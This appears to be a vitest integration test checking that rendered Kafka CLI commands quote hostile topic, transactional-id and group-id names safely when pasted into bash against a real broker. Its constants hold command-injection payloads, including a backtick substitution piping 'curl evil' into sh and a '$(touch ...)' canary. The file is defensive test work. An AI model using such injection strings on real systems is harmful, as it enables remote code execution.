// The rendered command lines, pasted into bash with the official Kafka CLIs (4.4.0) on PATH, against a real
// broker: hostile names reach the tools as the names they are (argparse4j and joptsimple both read
// `--option=value`, a leading '-' included), the commands do what their purpose says, and nothing else runs.
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Kafka, logLevel, type Admin, type Producer } from "kafkajs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { kafkaCommands, renderCommand, type CommandContext, type KafkaProgram, type RemediationCommand } from "@/lib/analysis/commands";
import { KAFKA_CLI_MAIN_CLASSES, parseCliTable } from "../../../scripts/kafka/cli";
import { SHORT_LIVED_JVM_ARGS, classpath, loggingJvmArgs } from "../../../scripts/kafka/jvm";
import { createTopicsReady } from "../../../scripts/kafka/topics";
import { useKafka } from "../scenarios/kafka-under-test";

const VERSION = "4.4.0";
const MAIN_CLASS: Record<KafkaProgram, string> = {
  "kafka-transactions.sh": KAFKA_CLI_MAIN_CLASSES.transactions,
  "kafka-consumer-groups.sh": KAFKA_CLI_MAIN_CLASSES["consumer-groups"],
  "kafka-topics.sh": KAFKA_CLI_MAIN_CLASSES.topics,
  "kafka-configs.sh": "org.apache.kafka.tools.ConfigCommand",
  "kafka-leader-election.sh": "org.apache.kafka.tools.LeaderElectionCommand",
};

/** A legal topic name (letters, digits, '.', '_', '-') that looks like an option. */
const TOPIC = "--bootstrap-server";
const TRANSACTIONAL_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";

describe("rendered commands with the real Kafka CLIs", () => {
  const kafka = useKafka({ version: VERSION, nodes: 1, name: "commands-real-cli" });
  let dir: string;
  let canary: string;
  let groupId: string;
  let admin: Admin;
  let producer: Producer;
  let context: CommandContext;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), "commands-real-cli-"));
    canary = path.join(dir, "canary");
    groupId = `--bootstrap-server evil:9092 $(touch ${canary}); touch ${canary} '"`;
    mkdirSync(path.join(dir, "bin"));
    for (const [program, mainClass] of Object.entries(MAIN_CLASS)) {
      // What bin/kafka-*.sh does (kafka-run-class.sh): the tool's main class with every argument passed on.
      const jvm = [...SHORT_LIVED_JVM_ARGS, ...loggingJvmArgs(VERSION), "-cp", `'${classpath(VERSION)}'`, mainClass].join(" ");
      writeFileSync(path.join(dir, "bin", program), `#!/bin/sh\nexec java ${jvm} "$@"\n`);
      chmodSync(path.join(dir, "bin", program), 0o755);
    }
    context = { bootstrapServers: kafka.cluster.brokers };
    const client = new Kafka({ clientId: "commands-real-cli", brokers: kafka.cluster.brokers, logLevel: logLevel.NOTHING });
    admin = client.admin();
    await admin.connect();
    await createTopicsReady(admin, [{ topic: TOPIC, numPartitions: 1 }]);
    // An open transaction of the hostile id on the dash-named topic, and committed offsets of the hostile group.
    producer = client.producer({ transactionalId: TRANSACTIONAL_ID, idempotent: true, maxInFlightRequests: 1 });
    await producer.connect();
    const txn = await producer.transaction();
    await txn.send({ topic: TOPIC, messages: [{ value: "open" }] });
    await admin.setOffsets({ groupId, topic: TOPIC, partitions: [{ partition: 0, offset: "0" }] });
  }, 120_000);

  afterAll(async () => {
    await producer?.disconnect();
    await admin?.disconnect();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** Pastes the command's line into bash; returns the tool's stdout, failing on a non-zero exit. */
  function run(command: RemediationCommand): string {
    const line = renderCommand(command, context)!.line;
    const result = spawnSync("bash", ["--norc", "--noprofile", "-c", line], {
      cwd: dir,
      env: { PATH: `${path.join(dir, "bin")}:${process.env.PATH}`, HOME: dir, NODE_ENV: "test" },
      encoding: "utf8",
      timeout: 90_000,
    });
    expect(result.status, `${line}\n${result.stderr}`).toBe(0);
    expect(existsSync(canary)).toBe(false);
    return result.stdout;
  }

  it("describes the hostile transactional id's open transaction on the dash-named topic", () => {
    const rows = parseCliTable(run(kafkaCommands.describeTransaction(TRANSACTIONAL_ID, "p")));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ TransactionalId: TRANSACTIONAL_ID, TransactionState: "Ongoing" });
    expect(rows[0].TopicPartitions).toBe(`${TOPIC}-0`);

    const producers = parseCliTable(run(kafkaCommands.describeProducers({ topic: TOPIC, partition: 0 }, "p")));
    expect(producers.map((r) => r.CurrentTransactionStartOffset)).toEqual(["0"]);
    expect(run(kafkaCommands.findHanging({ topic: TOPIC, partition: 0 }, 900_000, "p"))).not.toContain(TOPIC);
  });

  it("alters and describes the dash-named topic", async () => {
    run(kafkaCommands.alterTopicConfig(TOPIC, "retention.ms", 86_400_123, "p"));
    const described = await admin.describeConfigs({ includeSynonyms: false, resources: [{ type: 2, name: TOPIC, configNames: ["retention.ms"] }] });
    expect(described.resources[0].configEntries.find((e) => e.configName === "retention.ms")?.configValue).toBe("86400123");
    expect(run(kafkaCommands.describeUnderReplicated(TOPIC, "p")).trim()).toBe("");
  });

  it("describes and deletes the hostile group", async () => {
    const describe = run(kafkaCommands.describeGroup(groupId, "p"));
    expect(describe).toContain(groupId);
    expect(describe).toContain(TOPIC);
    run(kafkaCommands.describeGroupMembers(groupId, "p"));
    expect(run(kafkaCommands.deleteGroup(groupId, "p"))).toContain(`'${groupId}'`);
    expect((await admin.listGroups()).groups.map((g) => g.groupId)).not.toContain(groupId);
  });

  it("aborts the transaction on the dash-named topic", async () => {
    run(kafkaCommands.abortTransaction({ topic: TOPIC, partition: 0 }, 0, "p"));
    const producers = parseCliTable(run(kafkaCommands.describeProducers({ topic: TOPIC, partition: 0 }, "p")));
    expect(producers.map((r) => r.CurrentTransactionStartOffset)).toEqual(["None"]);
  });
});
